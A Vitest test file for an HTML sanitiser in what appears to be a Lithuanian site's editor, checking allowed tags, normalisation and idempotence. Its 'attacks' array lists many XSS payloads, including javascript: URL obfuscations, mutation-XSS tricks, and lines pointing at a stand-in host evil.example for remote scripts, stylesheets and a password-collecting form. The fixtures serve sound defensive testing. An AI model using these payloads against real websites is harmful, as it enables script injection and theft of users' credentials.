import { describe, expect, it } from 'vitest'
import { clean } from './clean.ts'

const html = (sent: string) => clean(sent).html

describe('what a page may have stays', () => {
  it.each([
    '<h2>Kainos</h2><h3>Vertinimas</h3><h4>Teorija</h4><p>Tekstas <strong>svarbus</strong> ir <em>kitas</em>.</p>',
    '<ul><li><p>vienas</p></li><li>du<ul><li>trys</li></ul></li></ul><ol start="3"><li>keturi</li></ol>',
    '<blockquote><p>Citata</p></blockquote><hr />',
    '<p>Eilutė<br />kita</p>',
    '<table><tbody><tr><th scope="col">Paslauga</th><th scope="col">Kaina</th></tr><tr><th scope="row">Kortelė</th><td colspan="2">5 €</td></tr></tbody></table>',
    '<p><a href="/lt/mokymai">čia</a> <a href="mailto:info@meistras.example">paštu</a> <a href="tel:+37060000000">tel.</a> <a href="#kainos">žemyn</a></p>',
    '<p><a href="https://e-tar.lt/x?a=1&amp;b=2" rel="noopener noreferrer">įstatymas</a></p>',
    '<img src="/api/failai/7" alt="Kortelė" width="800" height="600" loading="lazy" />',
    '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
  ])('%s', (sent) => expect(html(sent)).toBe(sent))
})

describe('what other editors write becomes the same', () => {
  it.each([
    ['<h1>A</h1><h5>B</h5><h6>C</h6>', '<h2>A</h2><h4>B</h4><h4>C</h4>'],
    ['<b>a</b><i>b</i><del>c</del>', '<strong>a</strong><em>b</em><s>c</s>'],
    ['<div class="x" style="color:red"><span>a</span></div>', 'a'],
    ['<p style="text-align:center" id="x" class="y" dir="rtl" onclick="x()">a</p>', '<p>a</p>'],
    [
      '<table style="min-width:75px"><colgroup><col style="min-width:25px"></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>A</p></th></tr><tr><th><p>B</p></th><td colspan="1"><p>1</p></td></tr></tbody></table>',
      '<table><tbody><tr><th scope="col"><p>A</p></th></tr><tr><th scope="row"><p>B</p></th><td><p>1</p></td></tr></tbody></table>',
    ],
    [
      '<th colspan="0">a</th><td colspan="999999">b</td><td rowspan="-1">c</td>',
      '<th scope="col">a</th><td>b</td><td>c</td>',
    ],
    [
      '<a href="https://x.lt" target="_blank" rel="opener">a</a>',
      '<a href="https://x.lt" rel="noopener noreferrer">a</a>',
    ],
    ['<a target="_blank" href="/lt">a</a>', '<a href="/lt">a</a>'],
    ['<img src="/api/failai/5">', '<img src="/api/failai/5" alt="" loading="lazy" />'],
    ['<img src="/api/failai/5" width="99999" height="0">', '<img src="/api/failai/5" alt="" loading="lazy" />'],
    [
      `<img src="/api/failai/5" alt="${'ž'.repeat(400)}">`,
      `<img src="/api/failai/5" alt="${'ž'.repeat(300)}" loading="lazy" />`,
    ],
    [
      '<table><tr><td><table><tr><th>a</th></tr><tr><td>b</td></tr></table></td><th>c</th></tr></table>',
      '<table><tr><td><table><tr><th scope="col">a</th></tr><tr><td>b</td></tr></table></td><th scope="col">c</th></tr></table>',
    ],
    ['<p>a\u0000\u202eb&#x202e;c\u2066</p>', '<p>abc</p>'],
    ['<p>nebaigta <strong>eilutė', '<p>nebaigta <strong>eilutė</strong></p>'],
    ['</main></div></body><p>a</p>', '<p>a</p>'],
    ['<p>a</p><p></p><p>b</p><p></p> <p> </p>', '<p>a</p><p></p><p>b</p>'],
  ])('%s', (sent, expected) => expect(html(sent)).toBe(expected))
})

/** Payloads of well-known collections, and of our own allow-list. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="/api/failai/1" onload=alert(1) srcset="//evil.example/x 2x" style="background:url(//evil.example)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">y</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">y</a><a href="/\t/evil.example">z</a>',
  '<a href="/lt" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; .rich { display: none }</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
  '<title><img src=x onerror=alert(1)></title><template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<x/onclick=alert(1)>x</x><p/onclick=alert(1)>y</p>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>{{constructor.constructor("alert(1)")()}}</p>',
  '<h2 id="content" name="cookie">x</h2>',
  `${'<ul><li>'.repeat(3000)}x`,
]

/** Every tag of a text, with its attributes as a browser would read them. */
function tags(text: string) {
  return [...text.matchAll(/<(\/?)([a-z0-9]+)((?:\s+[a-z]+(?:="[^"<>]*")?)*)\s*\/?>/g)].map(
    ([, , name = '', attributes = '']) => ({ name, attributes }),
  )
}
const allowed = /^(h[234]|p|br|hr|strong|em|s|code|blockquote|ul|ol|li|a|table|caption|thead|tbody|tr|th|td|img)$/
describe('what runs, frames or styles is gone', () => {
  it.each(attacks.map((sent) => [sent.slice(0, 90), sent]))('%s', (_, sent) => {
    const cleaned = html(sent)
    // Only whole tags of the list remain: every other angle bracket is escaped.
    expect(cleaned.match(/</g)?.length ?? 0).toBe(tags(cleaned).length)
    for (const { name, attributes } of tags(cleaned)) {
      expect(name).toMatch(allowed)
      for (const [, key, value] of attributes.matchAll(/\s+([a-z]+)(?:="([^"]*)")?/g)) {
        expect([
          'href',
          'rel',
          'src',
          'alt',
          'width',
          'height',
          'loading',
          'start',
          'scope',
          'colspan',
          'rowspan',
        ]).toContain(key)
        if (key === 'src') expect(value).toMatch(/^\/api\/failai\/\d+$/)
        if (key === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|\/(?![/\\\t])|#)/)
      }
    }
  })
  it('and cleaning again changes nothing', () => {
    for (const sent of attacks) expect(html(html(sent))).toBe(html(sent))
    expect(html(html(attacks.join('')))).toBe(html(attacks.join('')))
  })
})

describe('beside the html', () => {
  it('are the words, one blank between, as they are read', () => {
    expect(clean('<h2>Kainos</h2><p>1 &lt; 2&nbsp;€</p><ul><li>a</li><li>b</li></ul><script>x</script>').text).toBe(
      'Kainos 1 < 2 € a b',
    )
    expect(clean('<p></p><p> </p><br>').text).toBe('')
    expect(clean('<table><tr><th>A</th><td>B</td></tr></table>').text).toBe('A B')
  })
  it('are the pictures, each once', () => {
    const sent =
      '<img src="/api/failai/7"><p><img src="/api/failai/9"><img src="/api/failai/7"><img src="https://x.lt/a.png"></p>'
    expect(clean(sent).images).toEqual([7, 9])
    expect(html(sent)).not.toContain('x.lt')
  })
})
